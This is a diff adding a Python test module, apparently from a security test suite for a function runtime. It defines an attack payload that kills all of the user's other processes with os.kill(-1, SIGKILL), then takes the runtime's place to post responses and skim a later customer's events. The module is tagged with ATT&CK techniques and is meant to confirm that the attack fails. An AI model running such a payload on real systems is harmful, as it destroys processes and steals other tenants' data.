@@ -1,0 +1,32 @@
+"""Kills every other process of the user, and polls in the runtime's place."""
+
+from __future__ import annotations
+
+from tests.attacks.evidence import Cards
+from tests.attacks.payloads import CLIENT
+from tests.attacks.technique import Technique
+
+PLANT = (
+    CLIENT
+    + """
+import signal
+try: os.kill(-1, signal.SIGKILL)
+except ProcessLookupError: pass
+call("POST", mine + "/response", "1")
+skim(4)
+"""
+)
+
+TECHNIQUE = Technique(
+    level="L2",
+    attack=("T1557", "T1574"),
+    source="1.3b",
+    must_fail_to="receive a later customer's event",
+    plant=PLANT,
+    evidence=Cards(),
+    resets=True,
+    process="contained",
+    timeout_s=3,
+    spoils=True,
+    may_lose=1,
+)
